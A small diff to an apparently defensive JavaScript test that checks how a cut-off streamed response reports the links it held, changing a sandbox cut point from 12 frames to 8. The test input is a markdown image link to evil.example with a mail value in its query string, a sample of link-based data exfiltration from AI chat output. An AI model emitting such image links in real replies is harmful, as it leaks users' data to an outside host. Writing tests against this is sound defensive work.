@@ -78,7 +78,7 @@ for (const [path, bodyOf] of Object.entries(bodies)) {
 
   test.serial(`a stream that is cut tells of the links that it had until then: ${path}`, async (t) => {
     const post = await poster();
-    const cut = ' [[sandbox: cut_mid_stream; after_frames=12]]';
+    const cut = ' [[sandbox: cut_mid_stream; after_frames=8]]';
     const link = [`![x](https://evil.example/?q=`, mail, `) and more words after the link${cut}`];
     const { text, told } = await post(path, { ...bodyOf(link), stream: true });
     t.regex(text, /upstream_cut|upstream_outcome_unknown/);
